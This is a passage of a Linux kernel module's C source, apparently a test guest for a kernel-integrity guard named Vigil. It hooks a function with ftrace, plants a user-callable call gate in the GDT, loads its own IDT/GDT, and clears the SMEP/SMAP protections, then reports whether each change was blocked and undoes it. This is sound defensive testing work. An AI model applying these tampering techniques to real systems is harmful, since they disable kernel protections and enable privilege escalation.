	memcpy(before, (void *)target, 5);
	filter_err = ftrace_set_filter_ip(&attack_ops, target, 0, 0);
	if (filter_err) {
		report('o', false, SETUP_FAILED " ftrace_set_filter_ip(%s) = %d", FTRACE_TARGET, filter_err);
		return;
	}
	register_err = register_ftrace_function(&attack_ops);
	memcpy(during, (void *)target, 5);
	if (!register_err) {
		WRITE_ONCE(hook_task, current);
		result = call(&regs);
		WRITE_ONCE(hook_task, NULL);
		unregister_err = unregister_ftrace_function(&attack_ops);
	}
	ftrace_free_filter(&attack_ops);
	memcpy(after, (void *)target, 5);
	landed = !register_err && atomic_read(&hook_hits) > 0 && result == HOOK_RESULT;
	report('o', landed,
	       "register_ftrace_function(IPMODIFY) on %s at 0x%lx: err %d, site %5ph -> %5ph, call returned %ld (hook %s, %d hits); undone: unregister err %d, site %5ph (%s)",
	       FTRACE_TARGET, target, register_err, before, during, result, result == HOOK_RESULT ? "RAN" : "did not run",
	       atomic_read(&hook_hits), unregister_err, after, memcmp(before, after, 5) == 0 ? "restored" : "NOT RESTORED");
}

static void technique_p(void)
{
	unsigned long stub = (unsigned long)attack_stub;
	unsigned int cpu, waited_us = 0, eax, ebx, ecx, edx;
	u64 gate, original, readback, now;
	struct desc_struct *gdt;
	int err;

	cpu = get_cpu();   /* stay on this CPU: its GDT, its exits */
	gdt = get_cpu_gdt_rw(cpu);
	original = READ_ONCE(*(u64 *)&gdt[7]);
	/* A 64-bit call gate's lower half (SDM Vol 3A 5.8.3.1): offset 15:0, selector, type 0xC, DPL 3, P, offset 31:16. */
	gate = (stub & 0xFFFF) | ((u64)__KERNEL_CS << 16) | (0xECULL << 40) | (((u64)(stub >> 16) & 0xFFFF) << 48);
	err = write64_safe(&gdt[7], gate);
	readback = READ_ONCE(*(u64 *)&gdt[7]);
	while (readback == gate && waited_us < 2000000) {
		cpuid(0, &eax, &ebx, &ecx, &edx);   /* an exit: the guard may check this CPU's GDT before it enters again */
		udelay(100);
		waited_us += 100;
		readback = READ_ONCE(*(u64 *)&gdt[7]);
	}
	if (readback != original)
		write64_safe(&gdt[7], original);
	now = READ_ONCE(*(u64 *)&gdt[7]);
	put_cpu();
	report('p', readback == gate,
	       "call gate 0x%016llx in GDT slot 7 of cpu %u at %px: store err %d, 0x%016llx -> after %u us 0x%016llx (%s); undone: slot %s",
	       gate, cpu, &gdt[7], err, original, waited_us, readback,
	       readback == gate ? "still there" : readback == original ? "put back" : "changed again",
	       now == original ? "restored" : "NOT RESTORED");
}

static int __init attack_init(void)
{
	pr_info("vigil-attack: loaded technique=%s\n", technique);
	if (strlen(technique) != 1) {
		pr_err("vigil-attack: technique= must be one letter a..p\n");
		return -EINVAL;
	}
	switch (technique[0]) {
	case 'a': technique_a(); break;
	case 'b': technique_b(); break;
	case 'c': technique_c(); break;
	case 'd': technique_d(); break;
	case 'e': technique_e(); break;
	case 'f': technique_f(); break;
	case 'g': load_own_table('g', "IDT", lidt_safe, store_idt_of_cpu); break;
	case 'h': load_own_table('h', "GDT", lgdt_safe, store_gdt_of_cpu); break;
	case 'i': technique_i(); break;
	case 'j': clear_cr4_bit('j', X86_CR4_SMEP, "SMEP"); break;
	case 'k': clear_cr4_bit('k', X86_CR4_SMAP, "SMAP"); break;
	case 'l': technique_l(); break;
	case 'm': technique_m(); break;
	case 'n': technique_n(); break;
	case 'o': technique_o(); break;
	case 'p': technique_p(); break;
	default:
		pr_err("vigil-attack: unknown technique '%s'\n", technique);
		return -EINVAL;
	}
	/*
	 * Success, although the module has nothing left to do (every technique has undone itself, or was
	 * blocked): busybox insmod retries a failed finit_module with init_module, so an error here would
	 * run the technique twice. The scenario unloads the module right away.
	 */
	return 0;
}

static void __exit attack_exit(void)
{
}

module_init(attack_init);
module_exit(attack_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("Vigil test guest: kernel-tampering techniques the guard must block (issue 10 item 7)");
